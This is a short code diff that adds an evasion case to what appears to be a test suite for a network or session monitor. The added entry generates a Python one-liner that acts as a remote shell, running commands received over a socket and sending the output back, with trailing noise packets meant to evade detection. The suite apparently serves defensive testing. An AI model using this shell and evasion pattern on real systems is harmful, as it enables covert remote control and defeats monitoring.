@@ -203,6 +203,13 @@ asyncio.run(main())`,
     { first: (place) => ({ text: `echo ${place.marker}-$((6*7)); touch ${place.effect}\n`, dripMs: 15 }) },
   ),
   evasion(
+    "noise follows the command in a packet of its own",
+    "what is remembered of the wire is the newest packet",
+    (place) =>
+      `exec python3 -c '${python(`import time\n${connection(place)}for line in s.makefile():\n    time.sleep(0.1)\n    s.sendall(subprocess.getoutput(line).encode())`)}'`,
+    { first: (place) => ({ text: `echo ${place.marker}-$((6*7)); touch ${place.effect}\n`, noise: "true\n" }) },
+  ),
+  evasion(
     "the command is quoted in a way that only a shell undoes",
     "the words that are executed never stood in a packet",
     (place) =>
